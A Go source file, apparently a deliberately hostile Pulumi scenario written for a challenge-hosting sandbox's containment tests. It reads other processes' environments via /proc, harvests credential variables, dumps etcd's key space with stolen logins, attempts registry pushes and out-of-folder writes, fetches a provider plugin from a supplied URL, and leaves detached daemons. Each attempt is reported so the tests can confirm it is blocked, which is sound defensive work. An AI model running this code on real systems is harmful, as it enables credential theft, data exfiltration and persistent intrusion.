// Scenario "attacker": what a hostile ChallMaker's scenario would try, for the
// containment tests (e2e/sandbox_test.go, issue 15). With additional["mode"] = "attack" it
// tries each of the following and reports every attempt and its outcome as JSON in
// connection_info, so that a test can check that each one failed:
//
//   - read the environment of every process it can see in /proc (its ancestors first,
//     the language host, the engine, the function) and of the pids in additional["pids"],
//     and list their open descriptors;
//   - read, list and walk the paths in additional["read"] (the state folder, another
//     stack's checkpoint, the scenario cache, work directories), collecting every flag
//     (the CTF-brace format) found in what it reads;
//   - create the files in additional["write"] and one next to its own folder;
//   - connect to the addresses in additional["dial"] (etcd, the registry, the function),
//     read etcd's whole key space over gRPC (additional["etcd"]) and start an anonymous
//     push to the registry (additional["registry"]), with whatever credentials it found in
//     environments;
//   - read another stack's outputs through the engine (additional["stackref"], a stack
//     name): the `pulumi:pulumi:readStackOutputs` function, which the engine answers
//     from the backend for any stack;
//   - leave daemons behind: a `setsid` child and a double-forked grandchild of its own
//     binary, and `setsid sleep`, each with additional["marker"] in its command line.
//
// additional["mode"] = "stackref" deploys a StackReference to additional["stackref"] and
// exports its outputs as connection_info (a refused reference fails the deployment).
//
// additional["mode"] = "plugin" deploys a resource of a provider nobody installed, to be
// downloaded from additional["plugin"] (a URL): an engine that fetches it would run the
// attacker's binary outside the jail.
//
// additional["service"] = "yes" also deploys a challfn-local Service (so that a resource
// provider runs during the deployment), and additional["sleep"] (a Go duration) makes
// the program wait that long before it returns: the fault tests kill the function while
// all of this runs.
//
// additional["mode"] = "chatty" prints additional["bytes"] bytes (default 200 MiB) to
// stdout, stderr or the engine's log (additional["via"] = stdout|stderr|log), then
// deploys normally. Any other mode behaves like "outputs".
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
	"github.com/pulumi/pulumi/sdk/v3/go/pulumi/config"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/protobuf/encoding/protowire"
)

func main() {
	if len(os.Args) > 1 {
		switch os.Args[1] {
		case "daemon": // a daemon: sleep long
			time.Sleep(time.Hour)
			return
		case "fork": // the middle of a double fork: start the grandchild and exit
			startDaemon(os.Args[2], true)
			return
		}
	}
	pulumi.Run(func(ctx *pulumi.Context) error {
		cfg := config.New(ctx, "")
		id := cfg.Require("identity")
		additional := map[string]string{}
		if raw := cfg.Get("additional"); raw != "" {
			if err := json.Unmarshal([]byte(raw), &additional); err != nil {
				return fmt.Errorf("additional is not a JSON object of strings: %w", err)
			}
		}
		info := "nc " + id + ".attacker.local 1337"
		switch additional["mode"] {
		case "attack":
			if ctx.DryRun() {
				break
			}
			r := attack(additional)
			if name := additional["stackref"]; name != "" {
				var out struct {
					Outputs map[string]any `pulumi:"outputs"`
				}
				err := ctx.Invoke("pulumi:pulumi:readStackOutputs", map[string]any{"name": name}, &out)
				b, _ := json.Marshal(out.Outputs)
				r.StackRef = outcome(string(b), err)
				for _, f := range flagRE.FindAll(b, -1) {
					if !contains(r.Flags, string(f)) {
						r.Flags = append(r.Flags, string(f))
					}
				}
			}
			b, err := json.Marshal(r)
			if err != nil {
				return err
			}
			info = string(b)
		case "stackref":
			ref, err := pulumi.NewStackReference(ctx, "stolen", &pulumi.StackReferenceArgs{Name: pulumi.String(additional["stackref"])})
			if err != nil {
				return err
			}
			ctx.Export("connection_info", ref.Outputs.ApplyT(func(o map[string]any) string {
				b, _ := json.Marshal(o)
				return string(b)
			}).(pulumi.StringOutput))
			return nil
		case "plugin":
			var res pulumi.CustomResourceState
			return ctx.RegisterResource("evil:index:Thing", "thing", nil, &res,
				pulumi.Version("1.0.0"), pulumi.PluginDownloadURL(additional["plugin"]))
		case "chatty":
			if err := chatter(ctx, additional); err != nil {
				return err
			}
		}
		if additional["service"] == "yes" {
			if _, err := NewService(ctx, "service", &ServiceArgs{Flag: pulumi.String("CTF{" + id + "}")}); err != nil {
				return err
			}
		}
		if d, err := time.ParseDuration(additional["sleep"]); err == nil && !ctx.DryRun() {
			time.Sleep(d)
		}
		ctx.Export("connection_info", pulumi.String(info))
		ctx.Export("flag", pulumi.String("CTF{"+id+"}"))
		return nil
	})
}

// Report is what an attack saw; every value is an outcome: "ok: <what>" or "error: ...".
type Report struct {
	UID       int               `json:"uid"`
	PID       int               `json:"pid"`
	Hostname  string            `json:"hostname"`
	Ancestors []string          `json:"ancestors"`
	Environs  map[string]string `json:"environs"`
	FDs       map[string]string `json:"fds"`
	Reads     map[string]string `json:"reads"`
	Walked    []string          `json:"walked"`
	Flags     []string          `json:"flags"`
	Writes    map[string]string `json:"writes"`
	Dials     map[string]string `json:"dials"`
	Etcd      map[string]string `json:"etcd"`
	Registry  map[string]string `json:"registry"`
	Daemons   []string          `json:"daemons"`
	Found     []string          `json:"found"` // credentials found in environments
	Self      string            `json:"self"`  // its own executable
	StackRef  string            `json:"stackRef"`
}

const maxValue = 2048

func short(s string) string {
	if len(s) > maxValue {
		return s[:maxValue] + "…"
	}
	return s
}

func outcome(what string, err error) string {
	if err != nil {
		return "error: " + err.Error()
	}
	return "ok: " + short(what)
}

var flagRE = regexp.MustCompile(`CTF\{[^}"\\]{1,200}\}`)

var credVars = []string{"API_TOKENS", "PULUMI_CONFIG_PASSPHRASE", "ETCD_USERNAME", "ETCD_PASSWORD", "OCI_USERNAME", "OCI_PASSWORD"}

func attack(add map[string]string) *Report {
	r := &Report{
		UID: os.Getuid(), PID: os.Getpid(),
		Environs: map[string]string{}, FDs: map[string]string{}, Reads: map[string]string{},
		Writes: map[string]string{}, Dials: map[string]string{}, Etcd: map[string]string{}, Registry: map[string]string{},
	}
	r.Hostname, _ = os.Hostname()
	r.Self, _ = os.Executable()
	creds := map[string]string{}
	look := func(env string) {
		for _, kv := range strings.Split(env, "\x00") {
			k, v, ok := strings.Cut(kv, "=")
			if !ok {
				continue
			}
			for _, c := range credVars {
				if k == c && v != "" {
					creds[k] = v
				}
			}
		}
	}
	look(strings.Join(os.Environ(), "\x00"))

	// Ancestors, then every process /proc shows, then the pids given.
	pids := []string{}
	for p := os.Getppid(); p > 0; {
		pids = append(pids, strconv.Itoa(p))
		r.Ancestors = append(r.Ancestors, strconv.Itoa(p))
		next, err := parentOf(p)
		if err != nil || next == p {
			break
		}
		p = next
	}
	if ents, err := os.ReadDir("/proc"); err == nil {
		for _, e := range ents {
			if _, err := strconv.Atoi(e.Name()); err == nil && len(pids) < 300 {
				pids = append(pids, e.Name())
			}
		}
	}
	pids = append(pids, list(add["pids"])...)
	for _, p := range pids {
		if _, done := r.Environs[p]; done {
			continue
		}
		b, err := os.ReadFile("/proc/" + p + "/environ")
		look(string(b))
		r.Environs[p] = outcome(strings.ReplaceAll(string(b), "\x00", " "), err)
		fds, err := os.ReadDir("/proc/" + p + "/fd")
		if err != nil {
			r.FDs[p] = outcome("", err)
			continue
		}
		var ts []string
		for _, fd := range fds {
			t, _ := os.Readlink("/proc/" + p + "/fd/" + fd.Name())
			ts = append(ts, fd.Name()+"->"+t)
		}
		r.FDs[p] = outcome(strings.Join(ts, " "), nil)
	}
	for k := range creds {
		r.Found = append(r.Found, k)
	}
	sort.Strings(r.Found)

	// Files: read, list, walk.
	flags := map[string]bool{}
	grab := func(b []byte) {
		for _, f := range flagRE.FindAll(b, -1) {
			flags[string(f)] = true
		}
	}
	for _, p := range list(add["read"]) {
		st, err := os.Stat(p)
		if err != nil {
			r.Reads[p] = outcome("", err)
			continue
		}
		if !st.IsDir() {
			b, err := os.ReadFile(p)
			grab(b)
			r.Reads[p] = outcome(string(b), err)
			continue
		}
		ents, err := os.ReadDir(p)
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		r.Reads[p] = outcome(strings.Join(names, " "), err)
		n := 0
		_ = filepath.WalkDir(p, func(q string, d fs.DirEntry, err error) error {
			if err != nil || n > 2000 {
				return nil
			}
			n++
			if len(r.Walked) < 100 {
				r.Walked = append(r.Walked, q)
			}
			if d.Type().IsRegular() {
				if b, err := os.ReadFile(q); err == nil && len(b) < 16<<20 {
					grab(b)
				}
			}
			return nil
		})
	}
	if ents, err := os.ReadDir("/"); err == nil {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		r.Reads["/"] = outcome(strings.Join(names, " "), nil)
	}
	for f := range flags {
		r.Flags = append(r.Flags, f)
	}
	sort.Strings(r.Flags)

	// Writes: the paths given and next to its own folder.
	writes := list(add["write"])
	if exe, err := os.Executable(); err == nil {
		writes = append(writes, filepath.Join(filepath.Dir(exe), "written-by-attacker"), filepath.Join(filepath.Dir(filepath.Dir(exe)), "written-by-attacker"))
	}
	for _, p := range writes {
		r.Writes[p] = outcome(p, os.WriteFile(p, []byte("attacker was here\n"), 0o644))
	}

	// Network: plain connects, then etcd's key space and a registry push.
	for _, a := range list(add["dial"]) {
		c, err := net.DialTimeout("tcp", a, 2*time.Second)
		if err == nil {
			c.Close()
		}
		r.Dials[a] = outcome(a, err)
	}
	client := &http.Client{Timeout: 3 * time.Second}
	if a := add["etcd"]; a != "" {
		r.Etcd["range"] = etcdRange(a, creds, grab)
	}
	if a := add["registry"]; a != "" {
		resp, err := client.Post("http://"+a+"/v2/attacker/blobs/uploads/", "application/octet-stream", nil)
		if err == nil {
			resp.Body.Close()
			err = fmt.Errorf("status %d", resp.StatusCode)
			if resp.StatusCode == http.StatusAccepted {
				err = nil
			}
		}
		r.Registry["push"] = outcome("upload started", err)
	}
	for f := range flags {
		if !contains(r.Flags, f) {
			r.Flags = append(r.Flags, f)
		}
	}
	sort.Strings(r.Flags)

	// Daemons.
	if m := add["marker"]; m != "" {
		r.Daemons = append(r.Daemons, startDaemon(m, true), startDaemon(m+"-double", false))
		if _, err := exec.LookPath("setsid"); err == nil {
			c := exec.Command("setsid", "sleep", "3599."+digits(m))
			err := c.Start()
			r.Daemons = append(r.Daemons, outcome("setsid sleep", err))
		}
		// Let them start before the program (and, unless contained, nothing else) ends.
		time.Sleep(300 * time.Millisecond)
	}
	return r
}

// etcdRange reads every key of etcd over gRPC (raw protobuf: no etcd client needed),
// authenticating first when credentials were found.
func etcdRange(addr string, creds map[string]string, grab func([]byte)) string {
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return outcome("", err)
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	if u, p := creds["ETCD_USERNAME"], creds["ETCD_PASSWORD"]; u != "" && p != "" {
		var req []byte
		req = protowire.AppendTag(req, 1, protowire.BytesType)
		req = protowire.AppendString(req, u)
		req = protowire.AppendTag(req, 2, protowire.BytesType)
		req = protowire.AppendString(req, p)
		var resp rawMsg
		if err := conn.Invoke(ctx, "/etcdserverpb.Auth/Authenticate", rawMsg(req), &resp, grpc.ForceCodec(rawCodec{})); err == nil {
			if tok := field(resp, 2); tok != "" {
				ctx = metadata.AppendToOutgoingContext(ctx, "token", tok)
			}
		}
	}
	// RangeRequest{key: "\x00", range_end: "\x00"}: every key.
	req := []byte{0x0a, 0x01, 0x00, 0x12, 0x01, 0x00}
	var resp rawMsg
	if err := conn.Invoke(ctx, "/etcdserverpb.KV/Range", rawMsg(req), &resp, grpc.ForceCodec(rawCodec{})); err != nil {
		return outcome("", err)
	}
	grab(resp)
	return outcome(fmt.Sprintf("%d bytes of keys and values", len(resp)), nil)
}

// rawMsg and rawCodec send and receive protobuf bytes as they are.
type rawMsg []byte

type rawCodec struct{}

func (rawCodec) Marshal(v any) ([]byte, error) {
	if m, ok := v.(rawMsg); ok {
		return m, nil
	}
	return *v.(*rawMsg), nil
}

func (rawCodec) Unmarshal(b []byte, v any) error {
	*v.(*rawMsg) = append([]byte(nil), b...)
	return nil
}

func (rawCodec) Name() string { return "raw" }

// field returns the first bytes field num of a protobuf message, as a string.
func field(b []byte, num protowire.Number) string {
	for len(b) > 0 {
		n, t, k := protowire.ConsumeTag(b)
		if k < 0 {
			return ""
		}
		b = b[k:]
		if t == protowire.BytesType {
			v, k := protowire.ConsumeBytes(b)
			if k < 0 {
				return ""
			}
			if n == num {
				return string(v)
			}
			b = b[k:]
			continue
		}
		k = protowire.ConsumeFieldValue(n, t, b)
		if k < 0 {
			return ""
		}
		b = b[k:]
	}
	return ""
}

// startDaemon starts its own binary as a daemon named after marker: in a session of its
// own (setsid), or through a middle process that exits at once (double fork).
func startDaemon(marker string, setsid bool) string {
	exe, err := os.Executable()
	if err != nil {
		return outcome("", err)
	}
	arg := "daemon"
	if !setsid {
		arg = "fork"
	}
	attr := &os.ProcAttr{Files: []*os.File{nil, nil, nil}, Sys: &syscall.SysProcAttr{Setsid: setsid}}
	p, err := os.StartProcess(exe, []string{marker, arg, marker}, attr)
	if err != nil {
		return outcome("", err)
	}
	if !setsid {
		_, _ = p.Wait()
	} else {
		_ = p.Release()
	}
	return outcome(fmt.Sprintf("%s pid %d", arg, p.Pid), nil)
}

func parentOf(pid int) (int, error) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return 0, err
	}
	i := bytes.LastIndexByte(b, ')')
	if i < 0 {
		return 0, fmt.Errorf("bad stat")
	}
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 2 {
		return 0, fmt.Errorf("bad stat")
	}
	return strconv.Atoi(f[1])
}

func list(s string) []string {
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

func digits(s string) string {
	var b strings.Builder
	for _, c := range s {
		if c >= '0' && c <= '9' {
			b.WriteRune(c)
		}
	}
	if b.Len() == 0 {
		return "0"
	}
	return b.String()
}

// chatter prints additional["bytes"] bytes the way additional["via"] says.
func chatter(ctx *pulumi.Context, add map[string]string) error {
	n, err := strconv.ParseInt(or(add["bytes"], "209715200"), 10, 64)
	if err != nil {
		return fmt.Errorf("bytes: %w", err)
	}
	line := strings.Repeat("chatty scenario output ", 50)[:1023] + "\n"
	switch via := or(add["via"], "stdout"); via {
	case "stdout", "stderr":
		w := io.Writer(os.Stdout)
		if via == "stderr" {
			w = os.Stderr
		}
		chunk := []byte(strings.Repeat(line, 64))
		for n > 0 {
			k := min(n, int64(len(chunk)))
			if _, err := w.Write(chunk[:k]); err != nil {
				return err
			}
			n -= k
		}
	case "log":
		msg := strings.Repeat(line, 64)
		for n > 0 {
			if err := ctx.Log.Info(msg, nil); err != nil {
				return err
			}
			n -= int64(len(msg))
		}
	default:
		return fmt.Errorf("via %q", via)
	}
	return nil
}

func or(s, d string) string {
	if s == "" {
		return d
	}
	return s
}
